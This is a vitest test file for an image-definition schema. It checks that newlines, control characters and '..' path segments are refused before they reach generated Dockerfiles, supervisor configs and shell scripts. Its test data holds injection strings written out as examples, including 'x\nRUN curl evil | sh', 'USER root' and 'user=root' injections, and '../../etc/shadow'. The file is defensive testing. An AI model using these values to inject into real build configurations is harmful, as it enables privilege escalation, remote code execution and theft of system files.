// Issue 11 finding 6: a definition can no longer write outside the structure of the files rendered from it.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { renderBootEnvScript } from './boot-env';
import { renderDockerfile } from './dockerfile';
import { formatPortalConfig } from './portal-config';
import { bootEnvValueProblem, relativePathProblem } from './safe-strings';
import { parseImageDefinition, type PortalEntry } from './schema';
import { renderSupervisorConf } from './supervisor';
import { fakeDefinition, fakeFamily } from './testing';

type Input = Record<string, any>;
const derivative = (): Input => JSON.parse(JSON.stringify(fakeDefinition('derivative')));

/** The errors parseImageDefinition gives for a copy of the fake derivative changed by `edit`, as `path: message`. */
function errorsAfter(edit: (input: Input) => void): string[] {
  const input = derivative();
  edit(input);
  const result = parseImageDefinition(input);
  return result.success ? [] : result.errors.map((e) => `${e.path}: ${e.message}`);
}

describe('finding 6: control characters in strings that reach a Dockerfile, supervisor conf or shell', () => {
  it('a newline in description would have been a new Dockerfile instruction; now it is refused with the field and the fix', () => {
    const input = { ...derivative(), description: 'My app\nUSER root' };
    // What main rendered from it: the text after the newline stood on its own line of the Dockerfile.
    const family = fakeFamily(fakeDefinition('base'), { ...fakeDefinition('derivative'), description: input.description });
    expect(renderDockerfile(family.get('app')!).split('\n')).toContain('USER root" \\');
    const result = parseImageDefinition(input);
    expect(result.success).toBe(false);
    expect(result.success || result.errors).toEqual([
      {
        path: 'description',
        message:
          'contains a line break (\\n) at character 7: it would start a new line (or worse) in the generated Dockerfile, supervisor conf or script. Keep the value on one line of printable text.',
      },
    ]);
  });

  it.each<[string, (input: Input) => void, string]>([
    ['an image build arg value', (i) => (i.args = { MODE: 'x\nRUN curl evil | sh' }), 'args.MODE: contains a line break'],
    ['an env value', (i) => (i.env = { HOME_DIR: '/root\r' }), 'env.HOME_DIR: contains a carriage return (\\r)'],
    ['a variant build arg', (i) => (i.variants[0].args = { REF: 'v1\u0000' }), 'variants.0.args.REF: contains a NUL byte (\\0)'],
    [
      'a service environment value',
      (i) => (i.services[0].environment = { TOKEN: 'a\nautostart=false' }),
      'services.0.environment.TOKEN: contains a line break',
    ],
    // workdir's own pattern (literal path characters and ${NAME} only) refuses it before the control-character rule.
    [
      'a workdir',
      (i) => (i.services[0].workdir = '/workspace\nuser=root'),
      'services.0.workdir: must be an absolute path or start with a variable',
    ],
    [
      'a portal label',
      (i) => (i.services[0].portal[0].label = 'My App\u007f'),
      'services.0.portal.0.label: contains the control character U+007F',
    ],
    ['a boot env value', (i) => (i.bootEnv = { MODEL: 'a\u2028b' }), 'bootEnv.MODEL: contains the control character U+2028'],
    ['a tab in a one-line value', (i) => (i.description = 'My\tapp'), 'description: contains a tab (\\t)'],
    [
      'a NUL in a step comment',
      (i) => (i.steps = [{ name: 's', comment: 'why\u0000', run: 'true' }]),
      'steps.0.comment: contains a NUL byte (\\0) at character 4; a script may hold line breaks and tabs',
    ],
    [
      'a control character in a service command',
      (i) => (i.services[0].command = 'serve\u001b[0m'),
      'services.0.command: contains the control character U+001B',
    ],
  ])('refuses %s', (_what, edit, expected) => {
    const errors = errorsAfter(edit);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toContain(expected);
  });

  it('keeps the line breaks and tabs that scripts need in steps[].run, steps[].comment and services[].command', () => {
    expect(
      errorsAfter((i) => {
        i.steps = [{ name: 's', comment: 'one\ntwo', run: 'if true; then\n\techo hi\nfi' }];
        i.services[0].command = 'cd /x\nexec serve';
      }),
    ).toEqual([]);
  });

  it('refuses a services[].user that is not a login name (it became a line of the supervisor conf)', () => {
    const before = renderSupervisorConf({ ...fakeDefinition('derivative').services[0], user: 'user\nuser=root' }, 'x');
    expect(before.split('\n')).toContain('user=root');
    expect(errorsAfter((i) => (i.services[0].user = 'user\nuser=root'))).toEqual([
      'services.0.user: must be a login name such as user (lowercase letters, digits, _ and -)',
    ]);
    expect(errorsAfter((i) => (i.services[0].user = 'user'))).toEqual([]);
  });
});

describe('finding 6: paths that reach a copy stay inside ROOT/ and the workspace', () => {
  it.each<[string, (input: Input) => void, string]>([
    [
      '.. in steps[].needs',
      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['../../etc/shadow'] }]),
      "steps.0.needs.0: must stay inside ROOT/: remove the '.' and '..' segments",
    ],
    [
      '.. inside steps[].needs',
      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/../../x'] }]),
      'steps.0.needs.0: must stay inside ROOT/',
    ],
    [
      'a space in steps[].needs (COPY would read two paths)',
      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/a b'] }]),
      `steps.0.needs.0: contains " "`,
    ],
    [
      'a $ in steps[].needs (COPY expands it)',
      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/$HOME'] }]),
      'steps.0.needs.0: contains "$"',
    ],
    [
      '.. in artifacts[].from',
      (i) => (i.artifacts = [{ from: '../outside', to: 'opt/x' }]),
      'artifacts.0.from: must stay inside the workspace root',
    ],
    ['.. in artifacts[].to', (i) => (i.artifacts = [{ from: 'dist/x', to: 'opt/../..' }]), 'artifacts.0.to: must stay inside ROOT/'],
    ['an absolute artifacts[].to', (i) => (i.artifacts = [{ from: 'dist/x', to: '/etc' }]), 'artifacts.0.to: must be relative to ROOT/'],
  ])('refuses %s', (_what, edit, expected) => {
    const errors = errorsAfter(edit);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toContain(expected);
  });

  it('accepts the paths the images use', () => {
    expect(relativePathProblem('dist/packages/portal', 'the workspace root')).toBeUndefined();
    expect(relativePathProblem('opt/instance-tools/bin/fetch-script', 'ROOT/')).toBeUndefined();
  });
});

describe('steps[].run is a script file, not RUN text', () => {
  it('takes heredocs and a trailing backslash, which cannot reach the Dockerfile from a step file', () => {
    expect(errorsAfter((i) => (i.steps = [{ name: 's', run: "cat <<'EOF' >/x\nhi\nEOF" }]))).toEqual([]);
    expect(errorsAfter((i) => (i.steps = [{ name: 's', run: 'echo a \\\n# done' }]))).toEqual([]);
  });
});

describe('boot env values and labels inside ${NAME:-...}', () => {
  it("refuses a boot env value whose '}' closes no '${'", () => {
    expect(bootEnvValueProblem('${WORKSPACE}/models')).toBeUndefined();
    expect(bootEnvValueProblem('${A:-${B}}')).toBeUndefined();
    expect(bootEnvValueProblem('a}b')).toContain("has a '}' at character 2 that closes no '${'");
    expect(errorsAfter((i) => (i.bootEnv = { MODEL: 'a}b' }))[0]).toContain('bootEnv.MODEL: has a');
  });

  const bashValueOf = (script: string, name: string) =>
    spawnSync('bash', ['-c', `unset ${name}; eval "$(cat)"; printf '%s' "$${name}"`], { input: script, encoding: 'utf8' }).stdout;

  it('finding 7: a } in a label no longer corrupts the default PORTAL_CONFIG (bash reads back exactly what was written)', () => {
    const entries: PortalEntry[] = [
      { label: 'Instance Portal', externalPort: 1111, internalPort: 11111, path: '/', hostname: 'localhost' },
      { label: 'Odd {app} "$HOME" `id` \\ }', externalPort: 7860, internalPort: 17860, path: '/', hostname: 'localhost' },
    ];
    const script = renderBootEnvScript({ image: 'app', source: 'packages/images/app/image.ts', portalEntries: entries, env: {} });
    expect(bashValueOf(script, 'PORTAL_CONFIG')).toBe(formatPortalConfig(entries));
  });
});
